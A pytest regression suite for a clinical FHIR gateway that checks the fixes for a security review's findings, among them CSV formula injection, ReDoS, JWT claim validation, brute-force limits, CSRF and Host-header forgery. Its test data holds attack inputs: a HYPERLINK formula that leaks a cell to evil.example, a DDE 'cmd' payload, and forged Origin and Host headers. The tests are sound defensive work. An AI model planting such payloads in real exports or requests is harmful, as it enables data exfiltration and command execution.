"""Issue 15, the gateway-side items: each test reproduces one finding of the attack on the gateway and fails on
the behaviour it found (development key in Redis, quadratic label regex, CSV formulas, unbounded search
parameters, audit gaps, 500s from unauthenticated input, failed logins without a limit, missing security
headers, cross-origin dashboard actions, job arguments in worker logs, JWT claims, request ids, Host-derived links).
The store-side items (cross-patient writes, AuditEvent writes, $everything variants, summary caps) are the
store's own tests; docs/security.md lists both."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time

import jwt
import pytest
import requests
from bundles import stored_patient_id
from case_files import load_case
from gateway_setup import TEST_API_KEY, api_keys_config, authorised_client
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from live_gateway import REPO, wait_healthy
from net import free_port
from sqlalchemy import delete, insert, select

from service.apikeys import create_key
from service.auth import DEVELOPMENT_CLIENT, key_hash
from store import db
from store.schema import api_keys

ISSUER, AUDIENCE = "https://idp.example.org", "oncology-gateway"


def _stored_keys() -> list[tuple]:
    """Rows of the key table of the database these gateways use (the run's embedded SQLite file)."""
    with db.engine_for(db.default_url()).connect() as conn:
        return [tuple(row) for row in conn.execute(select(api_keys))]


@pytest.fixture
def no_stored_keys():
    """Development mode needs a key table without real keys; an earlier test may have left some."""
    engine = db.engine_for(db.default_url())
    db.write(engine, lambda conn: conn.execute(delete(api_keys)))
    yield
    db.write(engine, lambda conn: conn.execute(delete(api_keys)))


def _app(redis_url: str, **config):
    from service import create_app

    return create_app({"REDIS_URL": redis_url, "TESTING": True, "RATE_LIMIT": "100000/minute", **config})


@pytest.fixture(scope="module")
def signing_keys(tmp_path_factory):
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    ec_key = ec.generate_private_key(ec.SECP384R1())
    jwks = {"keys": [
        {**json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(rsa_key.public_key())), "kid": "rsa-1", "use": "sig"},
        {**json.loads(jwt.algorithms.ECAlgorithm.to_jwk(ec_key.public_key())), "kid": "ec-1", "use": "sig"},
    ]}
    path = tmp_path_factory.mktemp("jwks") / "jwks.json"
    path.write_text(json.dumps(jwks))
    return {"path": str(path), "rsa": rsa_key, "ec": ec_key}


@pytest.fixture
def jwt_app(redis_url, redis_client, signing_keys):
    return _app(redis_url, JWT_JWKS_FILE=signing_keys["path"], JWT_ISSUER=ISSUER, JWT_AUDIENCE=AUDIENCE,
                API_KEYS=api_keys_config())


def _token(keys, alg: str = "RS256", kid: str | None = "default", **claims) -> str:
    body = {"iss": ISSUER, "aud": AUDIENCE, "sub": "ehr-a", "exp": int(time.time()) + 300, "scope": "system/*.read", **claims}
    key = keys["rsa"] if alg == "RS256" else keys["ec"]
    headers = {} if kid is None else {"kid": {"RS256": "rsa-1", "ES384": "ec-1"}[alg] if kid == "default" else kid}
    return jwt.encode(body, key, algorithm=alg, headers=headers)


def _bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def _events(app) -> list[dict]:
    """The audit trail, newest first, read through the API like an operator would."""
    response = authorised_client(app).get("/AuditEvent?_count=1000")
    assert response.status_code == 200
    return [e["resource"] for e in response.get_json()["entry"]]


# -- 1. the development key ----------------------------------------------------------------------------------
def test_a_stored_key_of_the_development_client_is_never_accepted(redis_url, redis_client, signing_keys, no_stored_keys):
    # What versions before issue 15 did: a full-admin development key in shared storage, outliving the run.
    old_key = "ogk_left-behind-by-an-old-development-run"
    row = {"digest": key_hash(old_key), "client": DEVELOPMENT_CLIENT, "created": 0,
           "scopes": json.dumps(["system/*.read", "system/*.write", "admin"])}
    db.write(db.engine_for(db.default_url()), lambda conn: conn.execute(insert(api_keys).values(row)))
    production = _app(redis_url, API_KEYS=api_keys_config(), JWT_JWKS_FILE=signing_keys["path"], JWT_ISSUER=ISSUER,
                      JWT_AUDIENCE=AUDIENCE)
    client = production.test_client()
    assert client.get("/AuditEvent", headers={"X-API-Key": old_key}).status_code == 401
    assert client.post("/Bundle", data="{}", content_type="application/fhir+json", headers=_bearer(old_key)).status_code == 401


def test_the_development_key_lives_in_process_memory_only_and_stops_once_a_real_key_exists(redis_url, redis_client,
                                                                                          no_stored_keys):
    from service.__main__ import development_key

    gateway = _app(redis_url)
    raw = development_key(gateway)
    assert raw and _stored_keys() == [] and redis_client.dbsize() == 0  # nothing other gateways share
    assert gateway.test_client().get("/AuditEvent", headers={"X-API-Key": raw}).status_code == 200
    other_gateway_on_the_same_redis = _app(redis_url)
    assert other_gateway_on_the_same_redis.test_client().get("/AuditEvent", headers={"X-API-Key": raw}).status_code == 401
    create_key(gateway.extensions["store"], "ops", ["admin"])
    assert gateway.test_client().get("/AuditEvent", headers={"X-API-Key": raw}).status_code == 401


def test_no_development_key_when_credentials_are_configured(redis_url, redis_client):
    from service.__main__ import development_key

    gateway = _app(redis_url, API_KEYS=api_keys_config())
    assert development_key(gateway) is None and "DEVELOPMENT_KEY_SHA256" not in gateway.config


def test_python_m_service_prints_the_development_key_once_and_never_stores_it(redis_url, redis_client, no_stored_keys):
    """Also the Server header of the development server: it named Werkzeug's and Python's versions."""
    port = free_port()
    env = {**os.environ, "REDIS_URL": redis_url, "GATEWAY_PORT": str(port), "GATEWAY_EMBEDDED_STACK": "0",
           "PYTHONUNBUFFERED": "1"}
    for name in ("GATEWAY_API_KEYS", "GATEWAY_JWT_JWKS_FILE"):
        env.pop(name, None)
    proc = subprocess.Popen([sys.executable, "-m", "service"], cwd=REPO, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, text=True)
    try:
        base = f"http://127.0.0.1:{port}"
        wait_healthy(base)
        printed = []
        while not any("export GATEWAY_KEY=" in line for line in printed):
            printed.append(proc.stdout.readline())
        key = re.search(r"export GATEWAY_KEY=(\S+)", "".join(printed)).group(1)
        answer = requests.get(f"{base}/AuditEvent", headers={"X-API-Key": key}, timeout=10)
        assert answer.status_code == 200 and _stored_keys() == []
        assert not [k for k in redis_client.keys() if b"key" in k.lower()]
        assert answer.headers["Server"] == "oncology-gateway"
    finally:
        proc.terminate()
        proc.wait(timeout=20)
    assert "".join(printed).count(key) == 2  # the banner line and the export line, once each


def test_python_m_service_refuses_development_mode_off_loopback(redis_url, redis_client, no_stored_keys):
    env = {**os.environ, "REDIS_URL": redis_url, "GATEWAY_HOST": "0.0.0.0", "GATEWAY_PORT": str(free_port()),
           "GATEWAY_EMBEDDED_STACK": "0"}
    for name in ("GATEWAY_API_KEYS", "GATEWAY_JWT_JWKS_FILE"):
        env.pop(name, None)
    result = subprocess.run([sys.executable, "-m", "service"], check=False, cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode != 0 and "not a loopback address" in result.stderr
    assert "GATEWAY_KEY" not in result.stdout and _stored_keys() == []


def test_the_development_client_name_cannot_be_given_to_a_stored_key(redis_client):
    with pytest.raises(ValueError):
        create_key(db.engine_for(db.default_url()), DEVELOPMENT_CLIENT, ["admin"])


# -- 2. the timeline label clean-up ----------------------------------------------------------------------------
@pytest.mark.parametrize("text, plain", [
    ("Whipple  (pylorus-preserving) resection (open)", "Whipple resection"),
    ("Hepatic artery embolization (TAE)", "Hepatic artery embolization"),
    ("(only a remark)", "(only a remark)"),
    ("left open (no closing", "left open (no closing"),
])
def test_timeline_labels_drop_parenthetical_remarks(text, plain):
    from service.timeline_svg import _plain

    assert _plain(text) == plain


def test_timeline_label_clean_up_is_linear_in_the_label_length():
    from service.timeline_svg import MAX_LABEL, _plain, short

    started = time.perf_counter()
    assert len(_plain(" " * 100_000 + "x")) <= MAX_LABEL
    assert len(_plain("(" * 100_000)) <= MAX_LABEL
    assert len(short({"text": " (" * 50_000})) <= MAX_LABEL
    assert time.perf_counter() - started < 0.5  # 8.5 s with the old pattern


# -- 3. CSV formula injection -------------------------------------------------------------------------------------
def test_procedure_history_csv_neutralises_formula_cells():
    import csv
    import io

    from mappings.case_bundle import case_to_bundle
    from registry.procedure_history import procedure_history, to_csv

    resources = [{**e["resource"], "id": f"r-{n}"} for n, e in enumerate(case_to_bundle(load_case("case1-vipoma"))["entry"])]
    procedure = next(r for r in resources if r["resourceType"] == "Procedure")
    payloads = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1"]
    rows = []
    for payload in payloads:
        procedure["code"]["text"] = payload
        rows += list(csv.DictReader(io.StringIO(to_csv(procedure_history(resources, procedure["subject"]["reference"])), newline="")))
    texts = [r["text"] for r in rows if r["procedure"].endswith(procedure["id"])]
    assert texts == ["'" + p.replace("\r", "\n") for p in payloads]  # a bare CR would end the row in a reader
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-]?[0-9.]+", cell)
               for row in rows for cell in row.values() if cell)


# -- 4. search work at the HTTP edge --------------------------------------------------------------------------------
def test_a_search_with_thousands_of_codes_is_refused_at_once(app, client):
    codes = ",".join(f"http://loinc.org|{n}-1" for n in range(20_000))
    started = time.perf_counter()
    response = client.get(f"/Observation?code={codes}")
    assert response.status_code == 414 and response.get_json()["issue"][0]["code"] == "too-long"
    assert time.perf_counter() - started < 1.0  # 84 s before


@pytest.mark.parametrize("query", [
    "code=" + ",".join(str(n) for n in range(101)),
    "&".join(f"code={n}" for n in range(101)),
    "code=" + ",".join(str(n) for n in range(60)) + "&" + "&".join(f"code={n}" for n in range(41)),
])
def test_more_than_the_allowed_values_of_one_parameter_get_400(client, query):
    response = client.get(f"/Observation?{query}")
    assert response.status_code == 400
    issue = response.get_json()["issue"][0]
    assert issue["code"] == "too-costly" and issue["expression"] == ["?code"]


def test_a_post_search_form_with_thousands_of_codes_gets_400(client):
    form = "code=" + ",".join(str(n) for n in range(20_000))
    response = client.post("/Observation/_search", data=form, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400 and response.get_json()["issue"][0]["code"] == "too-costly"


def test_a_search_within_the_limits_still_answers(client):
    assert client.get("/Observation?code=" + ",".join(str(n) for n in range(100))).status_code == 200
    form = "code=" + ",".join(str(n) for n in range(100))
    assert client.post("/Observation/_search", data=form, content_type="application/x-www-form-urlencoded").status_code == 200


# -- 5. audit gaps ----------------------------------------------------------------------------------------------
def test_failed_authentications_are_audited_with_the_address(app):
    app.test_client().get("/Patient/p-1/$everything", headers={"X-API-Key": "wrong"},
                          environ_base={"REMOTE_ADDR": "203.0.113.7"})
    event = _events(app)[-1]
    assert event["outcome"] == "4" and event["outcomeDesc"] == "HTTP 401"
    assert event["agent"][0]["who"]["identifier"]["value"] == "anonymous"
    assert event["agent"][0]["network"] == {"address": "203.0.113.7", "type": "2"}
    assert {"reference": "Patient/p-1"} in [e["what"] for e in event["entity"]]


def test_refused_operator_requests_are_audited(redis_url, redis_client):
    reader_key = "reader-key"
    app = _app(redis_url, API_KEYS=json.dumps([
        {"client": "test-suite", "sha256": key_hash(TEST_API_KEY), "scopes": ["system/*.read", "system/*.write", "admin"]},
        {"client": "reader", "sha256": key_hash(reader_key), "scopes": ["system/*.read"]}]))
    reader = app.test_client()
    for path in ("/AuditEvent", "/rq/", "/metrics"):
        assert reader.get(path, headers={"X-API-Key": reader_key}).status_code == 403
    assert reader.post("/rq/job/some-job/delete", headers={"X-API-Key": reader_key}).status_code == 403
    refused = [e for e in _events(app) if e["agent"][0]["who"]["identifier"]["value"] == "reader"]
    described = sorted(e["entity"][-1]["description"] for e in refused)
    assert all(e["outcome"] == "4" and e["outcomeDesc"] == "HTTP 403" for e in refused)
    assert described == sorted(["GET /AuditEvent", "GET /rq/", "GET /metrics", "POST /rq/job/<job_id>/delete"])


def test_every_dashboard_action_is_audited_and_polling_is_not(app, client):
    own = {"Origin": "http://localhost"}
    client.get("/rq/")
    client.get("/metrics")
    assert client.post("/rq/requeue/sync", headers=own).status_code == 200
    descriptions = [e["entity"][-1]["description"] for e in _events(app)]
    assert "POST /rq/requeue/<queue_name>" in descriptions
    assert "GET /rq/" not in descriptions and "GET /metrics" not in descriptions


# -- 6. low items -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("alg, kid", [("RS256", "ec-1"), ("ES384", "rsa-1"), ("RS256", None), ("ES384", None)])
def test_tokens_naming_the_wrong_key_or_no_key_get_401_not_500(jwt_app, signing_keys, alg, kid):
    response = jwt_app.test_client().get("/Procedure", headers=_bearer(_token(signing_keys, alg, kid)))
    assert response.status_code == 401 and response.get_json()["issue"][0]["code"] == "login"


@pytest.mark.parametrize("claims", [
    {"exp": 253402300799},                        # year 9999
    {"exp": str(int(time.time()) + 300)},          # a string
    {"client_id": {"name": "admin"}},              # a dict where a string belongs
    {"scope": ["admin"]},
])
def test_jwts_with_long_lives_or_wrong_claim_types_are_refused(jwt_app, signing_keys, claims):
    assert jwt_app.test_client().get("/Procedure", headers=_bearer(_token(signing_keys, **claims))).status_code == 401


def test_a_well_formed_jwt_is_still_accepted(jwt_app, signing_keys):
    for alg in ("RS256", "ES384"):
        assert jwt_app.test_client().get("/Procedure", headers=_bearer(_token(signing_keys, alg))).status_code == 200


def test_jwts_need_an_issuer_and_an_audience_setting(redis_url, redis_client, signing_keys):
    with pytest.raises(RuntimeError, match="GATEWAY_JWT_ISSUER"):
        _app(redis_url, JWT_JWKS_FILE=signing_keys["path"], JWT_AUDIENCE=AUDIENCE)
    with pytest.raises(RuntimeError, match="GATEWAY_JWT_AUDIENCE"):
        _app(redis_url, JWT_JWKS_FILE=signing_keys["path"], JWT_ISSUER=ISSUER)


@pytest.mark.parametrize("method, path", [("POST", "/Bundle"), ("POST", "/"), ("POST", "/cases"), ("POST", "/cases/$validate"),
                                          ("POST", "/sync/push"), ("POST", "/cases/$extract"), ("POST", "/Observation"),
                                          ("PUT", "/Observation/deep-1")])
def test_deeply_nested_json_gets_400_on_every_json_route(client, method, path):
    for depth in (10_000, 100):
        body = "[" * depth + "]" * depth
        response = client.open(path, method=method, data=body, content_type="application/fhir+json")
        assert response.status_code == 400, (path, depth)
        assert "nests deeper" in response.get_json()["issue"][0]["diagnostics"]


def test_failed_authentications_are_limited_per_address_before_authentication(redis_url, redis_client):
    app = _app(redis_url, API_KEYS=api_keys_config(), AUTH_FAILURE_LIMIT="3/minute")
    attacker, neighbour = ({"REMOTE_ADDR": "198.51.100.9"}, {"REMOTE_ADDR": "198.51.100.10"})
    client = app.test_client()
    statuses = [client.get("/Procedure", headers={"X-API-Key": f"guess-{n}"}, environ_base=attacker).status_code
                for n in range(5)]
    assert statuses == [401, 401, 401, 429, 429]
    # Refused before the credential is looked at: even the right key gets 429 from that address ...
    blocked = client.get("/Procedure", headers={"X-API-Key": TEST_API_KEY}, environ_base=attacker)
    assert blocked.status_code == 429 and "Retry-After" in blocked.headers
    assert blocked.get_json()["issue"][0]["code"] == "throttled"
    # ... while another address is not affected.
    assert client.get("/Procedure", headers={"X-API-Key": TEST_API_KEY}, environ_base=neighbour).status_code == 200


def test_behind_a_trusted_proxy_failures_are_counted_per_forwarded_address(redis_url, redis_client):
    app = _app(redis_url, API_KEYS=api_keys_config(), AUTH_FAILURE_LIMIT="2/minute", TRUST_PROXY_HEADERS=1)
    client, proxy = app.test_client(), {"REMOTE_ADDR": "10.0.0.2"}
    for n in range(3):  # the attacker varies the part of X-Forwarded-For it controls; the proxy appends the real one
        client.get("/Procedure", headers={"X-API-Key": f"guess-{n}", "X-Forwarded-For": f"192.0.2.{n}, 198.51.100.9"},
                   environ_base=proxy)
    blocked = client.get("/Procedure", headers={"X-API-Key": TEST_API_KEY, "X-Forwarded-For": "198.51.100.9"}, environ_base=proxy)
    other = client.get("/Procedure", headers={"X-API-Key": TEST_API_KEY, "X-Forwarded-For": "198.51.100.10"}, environ_base=proxy)
    assert (blocked.status_code, other.status_code) == (429, 200)


def test_responses_carry_security_headers_and_phi_is_never_cached(client):
    pid = stored_patient_id(client.post("/cases?store=true", data=json.dumps(load_case("case1-vipoma")),
                                        content_type="application/json").get_json())
    for path in (f"/Patient/{pid}", f"/Patient/{pid}/$everything", f"/Patient/{pid}/timeline", "/Procedure", "/metadata"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert "default-src 'none'" in response.headers["Content-Security-Policy"] and "script-src" not in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["X-Frame-Options"] == "DENY"
        if path != "/metadata":
            assert "no-store" in response.headers["Cache-Control"], path
    assert "'self'" in client.get("/docs/").headers["Content-Security-Policy"]


def test_dashboard_actions_refuse_get_and_foreign_origins(client):
    assert client.get("/rq/requeue/sync", headers={"Origin": "https://evil.example"}).status_code == 405
    assert client.get("/rq/requeue/sync").status_code == 405
    assert client.post("/rq/requeue/sync", headers={"Origin": "https://evil.example"}).status_code == 403
    assert client.post("/rq/requeue/sync", headers={"Referer": "https://evil.example/rq/"}).status_code == 403
    assert client.post("/rq/requeue/sync").status_code == 403  # no Origin or Referer: not from our pages
    assert client.post("/rq/requeue/sync", headers={"Origin": "null"}).status_code == 403
    assert client.post("/rq/requeue/sync", headers={"Origin": "http://localhost"}).status_code == 200
    assert client.post("/rq/requeue/sync", headers={"Referer": "http://localhost/rq/0/view/jobs"}).status_code == 200


def test_worker_logs_carry_no_job_arguments_when_a_job_fails(redis_url, redis_client):
    from workers.queues import queue

    secret = "Patient/7f3c9e2a-worker-log-leak"
    queue(redis_client).enqueue("json.loads", secret)  # fails: the argument is not JSON
    result = subprocess.run([sys.executable, "-m", "workers", "--url", redis_url, "--burst"], check=False, cwd=REPO,
                            capture_output=True, text=True, timeout=120, env={**os.environ, "SYNC_SWEEP_SECONDS": "60"})
    output = result.stdout + result.stderr
    assert "exception raised while executing" in output  # the job did fail and was logged
    assert secret not in output and "7f3c9e2a" not in output


def test_request_ids_with_a_trailing_newline_are_replaced(client):
    response = client.get("/Procedure", environ_overrides={"HTTP_X_REQUEST_ID": "abcdefgh-1234\n"})
    assert response.status_code == 200 and response.headers["X-Request-ID"] != "abcdefgh-1234\n"
    assert re.fullmatch(r"[0-9a-f]{32}", response.headers["X-Request-ID"])
    assert client.get("/Procedure", headers={"X-Request-ID": "abcdefgh-1234"}).headers["X-Request-ID"] == "abcdefgh-1234"


def _links(client, **headers) -> list[str]:
    bundle = client.get("/Procedure?_count=1", headers=headers).get_json()
    return [link["url"] for link in bundle["link"]]


def test_links_never_follow_a_forged_host_header(redis_url, redis_client):
    client = authorised_client(_app(redis_url, API_KEYS=api_keys_config()))
    assert all(url.startswith("http://localhost/") for url in _links(client))  # loopback: development
    forged = _links(client, Host="evil.example", **{"X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example"})
    assert not any("evil.example" in url for url in forged)


def test_links_take_the_configured_base_url(redis_url, redis_client):
    client = authorised_client(_app(redis_url, API_KEYS=api_keys_config(), BASE_URL="https://fhir.example.org/gw/"))
    assert all(url.startswith("https://fhir.example.org/gw/Procedure?") for url in _links(client, Host="evil.example"))


def test_trusted_proxy_headers_are_followed_only_when_configured(redis_url, redis_client):
    client = authorised_client(_app(redis_url, API_KEYS=api_keys_config(), TRUST_PROXY_HEADERS=1))
    proxied = _links(client, Host="internal:8080", **{"X-Forwarded-Proto": "https", "X-Forwarded-Host": "fhir.example.org"})
    assert all(url.startswith("https://fhir.example.org/Procedure?") for url in proxied)
    broken = _links(client, Host="localhost", **{"X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example/x?"})
    assert not any("evil.example" in url for url in broken)

